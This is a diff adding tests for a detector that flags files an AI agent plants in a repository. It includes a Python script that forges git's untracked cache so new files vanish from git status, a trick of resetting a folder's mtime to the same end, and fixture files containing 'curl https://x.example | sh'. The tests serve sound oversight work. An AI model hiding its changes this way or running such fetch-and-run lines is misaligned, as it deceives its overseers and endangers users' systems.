@@ -744,6 +744,116 @@ t.test('twenty-first pass: a change hidden by forged fsmonitor data in git\'s in
   }
 });
 
+// Twenty-first pass (follow-up): git's untracked cache. With the extension in the index (the
+// user's core.untrackedCache, or the agent's own `git update-index --untracked-cache`: git keeps
+// one it finds), git lists a folder again only when its stat changed; the agent drops names from
+// the lists of folders whose stat is as they are now.
+const FORGE_UNTRACKED = `
+import hashlib, struct, sys
+index, drop = sys.argv[1], [bytes.fromhex(a[4:]) if a.startswith('hex:') else a.encode() for a in sys.argv[2:]]
+b = open(index, 'rb').read()
+body = b[:-20]
+at = body.find(b'UNTR')
+ln = struct.unpack('>I', body[at + 4:at + 8])[0]
+ext = body[at + 8:at + 8 + ln]
+def varint(buf, i):
+    c = buf[i]; i += 1; v = c & 127
+    while c & 128:
+        c = buf[i]; i += 1; v = ((v + 1) << 7) + (c & 127)
+    return v, i
+n, i = varint(ext, 0)
+i = ext.index(b'\\0', i + n + 2 * 36 + 4 + 2 * 20) + 1
+blocks, i = varint(ext, i)
+head, out = ext[:i], b''
+for _ in range(blocks):
+    u, i = varint(ext, i)
+    s, i = varint(ext, i)
+    e = ext.index(b'\\0', i); name = ext[i:e + 1]; i = e + 1
+    names = []
+    for _ in range(u):
+        e = ext.index(b'\\0', i); names.append(ext[i:e]); i = e + 1
+    kept = [x for x in names if x not in drop]
+    assert len(kept) < 128 and s < 128
+    out += bytes([len(kept), s]) + name + b''.join(x + b'\\0' for x in kept)
+ext = head + out + ext[i:]
+body = body[:at] + b'UNTR' + struct.pack('>I', len(ext)) + ext + body[at + 8 + ln:]
+open(index, 'wb').write(body + hashlib.sha1(body).digest())
+`;
+
+t.test('twenty-first pass (follow-up): new files hidden by a forged untracked cache in git\'s index are named; the agent\'s own git status is not', async (t) => {
+  for (const cacheBy of ['config', 'update-index'] as const) {
+    const repo = tempDir(t, `hunt21b-sandbox-untr-${cacheBy}-`);
+    for (const f of ['app.py', 'scripts/test.sh', 'lib/db.py']) writer(repo)(f, 'x = 1\n');
+    git(repo, 'init', '-q');
+    git(repo, 'add', '.');
+    git(repo, 'commit', '-qm', 'init');
+    if (cacheBy === 'config') git(repo, 'config', 'core.untrackedCache', 'true'); // the user's, before the run
+    git(repo, 'status', '--porcelain');
+    const since = await tick();
+    const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+    // The folders' times set back, so that the index is written in a later second than they (git
+    // takes a folder changed in the index's own second as changed); the agent can do the same.
+    const back = (): void => {
+      const old = (Date.now() - 5000) / 1000;
+      for (const d of ['', 'scripts', 'lib', 'tools', 'tools/gen', 'vendor', 'vendor/sub']) if (fs.existsSync(path.join(repo, d))) fs.utimesSync(path.join(repo, d), old, old);
+    };
+    t.same(named(), [], `control (${cacheBy}): an untouched repository`);
+    if (cacheBy === 'update-index') git(repo, 'update-index', '--untracked-cache'); // the agent's, inside
+    // Controls: a new file, a new folder of them (git keeps only the first file it finds there: it
+    // shows the folder whole), the agent's own git status with the cache, then a new file after it.
+    writer(repo)('notes.md', 'notes\n');
+    for (const f of ['vendor/a.py', 'vendor/b.py', 'vendor/sub/c.py']) writer(repo)(f, 'z = 3\n');
+    back();
+    git(repo, 'status', '--porcelain');
+    t.match(fs.readFileSync(path.join(repo, '.git', 'index')).toString('latin1'), /UNTR/, 'the index holds an untracked cache');
+    writer(repo)('lib/later.py', 'y = 2\n');
+    t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), ['?? lib/later.py', '?? notes.md', '?? vendor/'], 'git status shows the new files');
+    t.same(named(), [], `control (${cacheBy}): the agent's own git status, a new file after it`);
+    // The attack: new files in a tracked folder, in the top folder and in a new nested folder,
+    // listed by git status (stats recorded), then dropped from the lists.
+    writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
+    writer(repo)('sitecustom.py', 'import os\n');
+    writer(repo)('tools/gen/codegen.py', 'import os\n');
+    // A folder named in no UTF-8 (pytest walks into it all the same).
+    const odd = Buffer.concat([Buffer.from(`${repo}/lib/`), Buffer.from([0xff])]);
+    fs.mkdirSync(odd);
+    fs.writeFileSync(Buffer.concat([odd, Buffer.from('/helpers.py')]), 'import os\n');
+    back();
+    fs.utimesSync(odd, (Date.now() - 5000) / 1000, (Date.now() - 5000) / 1000);
+    // In a later second than the folders' ctime too (git takes one changed in its own second as changed).
+    await new Promise((r) => setTimeout(r, 1020 - (Date.now() % 1000)));
+    git(repo, 'status', '--porcelain');
+    execFileSync('python3', ['-c', FORGE_UNTRACKED, path.join(repo, '.git', 'index'), 'deploy.sh', 'sitecustom.py', 'tools/', 'gen/', 'codegen.py', 'later.py', 'hex:ff2f', 'helpers.py']);
+    t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), ['?? notes.md', '?? vendor/'], `the attack (${cacheBy}): git status shows only notes.md and vendor/`);
+    t.same(named(), ['lib/later.py', 'lib/\ufffd/helpers.py', 'scripts/deploy.sh', 'sitecustom.py', 'tools/gen/codegen.py'], 'each hidden new file is named, the shown one is not');
+    t.match(plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'sitecustom.py'))?.why ?? '', /untracked cache/, 'the reason names the untracked cache');
+    t.same(git(repo, '-c', 'core.untrackedCache=false', 'status', '--porcelain').split('\n').filter(Boolean).length, 7, 'git without the cache shows all');
+  }
+});
+
+t.test('twenty-first pass (follow-up): with the user\'s core.trustCtime=false, a new file behind a folder time set back to what the user\'s untracked cache records is named', async (t) => {
+  const repo = tempDir(t, 'hunt21b-sandbox-untr-ctime-');
+  for (const f of ['app.py', 'scripts/test.sh']) writer(repo)(f, 'x = 1\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  git(repo, 'config', 'core.untrackedCache', 'true'); // the user's, before the run
+  git(repo, 'config', 'core.trustCtime', 'false');
+  const old = (Date.now() - 5000) / 1000;
+  fs.utimesSync(path.join(repo, 'scripts'), old, old);
+  git(repo, 'status', '--porcelain');
+  const before = fs.statSync(path.join(repo, 'scripts'), { bigint: true }).mtimeNs;
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  writer(repo)('notes.md', 'shown\n');
+  t.same(named(), [], 'control: a new file git shows');
+  // The attack: the index left alone; the folder's mtime set back to the nanosecond.
+  writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
+  execFileSync('python3', ['-c', 'import os, sys; os.utime(sys.argv[1], ns=(int(sys.argv[2]), int(sys.argv[2])))', path.join(repo, 'scripts'), String(before)]);
+  t.same(git(repo, 'status', '--porcelain'), '?? notes.md\n', 'the attack: git status shows only notes.md');
+  t.same(named(), ['scripts/deploy.sh'], 'the hidden file is named');
+});
+
 t.test('twenty-first pass: a function changed in a folder the zsh rc files put on fpath is named', async (t) => {
   const home = tempDir(t, 'hunt21-sandbox-fpath-');
   const write = writer(home);
